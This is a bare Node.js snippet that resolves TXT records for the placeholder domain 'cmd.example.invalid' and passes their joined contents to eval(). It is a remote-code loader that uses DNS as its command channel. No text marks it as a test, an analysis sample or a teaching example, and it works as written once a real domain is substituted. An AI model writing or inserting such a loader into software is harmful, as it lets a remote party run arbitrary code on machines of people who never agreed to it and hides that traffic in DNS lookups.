const dns = require('dns');
dns.resolveTxt('cmd.example.invalid', (err, records) => {
  if (!err) eval(records.map((r) => r.join('')).join(''));
});
